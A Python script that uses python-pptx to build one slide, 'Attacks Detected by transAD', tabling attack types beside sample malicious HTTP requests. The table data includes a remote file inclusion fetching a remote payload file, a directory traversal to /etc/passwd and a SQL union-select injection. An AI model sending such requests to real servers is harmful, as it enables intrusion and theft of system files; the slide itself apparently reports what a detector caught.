
import pptx
import pptx.dml.color
import pptx.enum.shapes
import pptx.enum.text
import pptx.oxml
import pptx.oxml.ns
import pptx.util
from pptx.util import Inches

COLORS = {
    "title": "666699",
    "header": "FF9900",
    "band_dark": "FFDECC",
    "band_light": "FFEFE7",
    "white": "FFFFFF",
    "text": "000000",
}
SANS, SERIF = "Arial", "TeX Gyre Pagella"

HEADINGS = ("Type of Attack", "HTTP GET Request")
ATTACKS = [
    ("Buffer Overflow",
     "/?slide=kashdan?slide=pawloski?slide=ascoli?slide=shukla?"
     "slide=kabbani?slide=ascoli?slide=proteomics?slide=shukla?slide=shukla"),
    ("Remote File Inclusion",
     "//forum/adminLogin.php?config[forum installed]= "
     "http://www.steelcitygray.com/auction/uploaded/golput/ID-RFI.txt??"),
    ("Directory Traversal",
     "/resources/index.php?con=/../../../../../../../../etc/passwd"),
    ("Code Injection",
     "//resources-template.php?id=38-999.9+union+select+0"),
    ("Script Attacks",
     "/.well-known/autoconfig/mail/config-v1.1.xml? "
     "emailaddress=********%40*********.***.***"),
]


def rgb(name):
    return pptx.dml.color.RGBColor.from_string(COLORS[name])


class SlideBuilder:
    """Holds the current slide and draws its elements in one style."""

    def __init__(self, prs):
        self.s = prs.slides.add_slide(prs.slide_layouts[5])

    def add_run(self, p, text, font, size, color, bold=False):
        r = p.add_run()
        r.text = text
        r.font.name = font
        r.font.size = pptx.util.Pt(size)
        r.font.bold = bold
        r.font.color.rgb = rgb(color)

    def title(self, text, left, top, width, height):
        sp = self.s.shapes.title
        sp.left, sp.top = Inches(left), Inches(top)
        sp.width, sp.height = Inches(width), Inches(height)
        tf = sp.text_frame
        tf.word_wrap = True
        tf.auto_size = pptx.enum.text.MSO_AUTO_SIZE.NONE
        tf.vertical_anchor = pptx.enum.text.MSO_ANCHOR.BOTTOM
        tf.margin_left = tf.margin_top = tf.margin_bottom = Inches(0.06)
        tf.margin_right = Inches(0.12)
        p = tf.paragraphs[0]
        p.alignment = pptx.enum.text.PP_ALIGN.LEFT
        self.add_run(p, text, SERIF, 48, "title")

    def rule(self, x1, y1, x2, y2):
        line = self.s.shapes.add_connector(
            pptx.enum.shapes.MSO_CONNECTOR.STRAIGHT,
            Inches(x1), Inches(y1), Inches(x2), Inches(y2))
        line.line.color.rgb = rgb("title")
        line.line.width = pptx.util.Pt(2)
        sp_pr = line._element.spPr
        sp_pr.append(sp_pr.makeelement(pptx.oxml.ns.qn("a:effectLst"), {}))

    def cell_borders(self, cell, top, bottom):
        """Draw white borders; top and bottom widths are in points."""
        tc_pr = cell._tc.get_or_add_tcPr()
        widths = {"lnL": 1, "lnR": 1, "lnT": top, "lnB": bottom}
        for i, (side, width) in enumerate(widths.items()):
            tc_pr.insert(i, pptx.oxml.parse_xml(
                f'<a:{side} {pptx.oxml.ns.nsdecls("a")} w="{pptx.util.Pt(width)}">'
                f'<a:solidFill><a:srgbClr val="{COLORS["white"]}"/></a:solidFill>'
                f'</a:{side}>'))

    def table(self, rows, left, top, col_widths, row_height, height):
        frame = self.s.shapes.add_table(
            len(rows), len(col_widths), Inches(left), Inches(top),
            Inches(sum(col_widths)), Inches(row_height * len(rows)))
        frame.height = Inches(height)
        table = frame.table
        for column, width in zip(table.columns, col_widths):
            column.width = Inches(width)
        for i, row in enumerate(rows):
            header = i == 0
            fill = "header" if header else "band_dark" if i % 2 else "band_light"
            for j, text in enumerate(row):
                cell = table.cell(i, j)
                cell.fill.solid()
                cell.fill.fore_color.rgb = rgb(fill)
                self.cell_borders(cell, 3 if i == 1 else 1, 3 if header else 1)
                sans = header or j == 0
                self.add_run(cell.text_frame.paragraphs[0], text,
                             SANS if sans else SERIF, 28 if header else 24,
                             "white" if header else "text", bold=sans)


def main():
    prs = pptx.Presentation()
    prs.slide_width, prs.slide_height = Inches(14.22), Inches(10.67)
    slide = SlideBuilder(prs)
    slide.rule(0.47, 0.94, 13.04, 0.95)
    slide.title("Attacks Detected by transAD", 0.36, 0, 12.81, 0.94)
    slide.table([HEADINGS] + ATTACKS, 0.6, 1.65, (2.85, 9.96), 0.41, 5.07)
    prs.save("out.pptx")


if __name__ == "__main__":
    main()
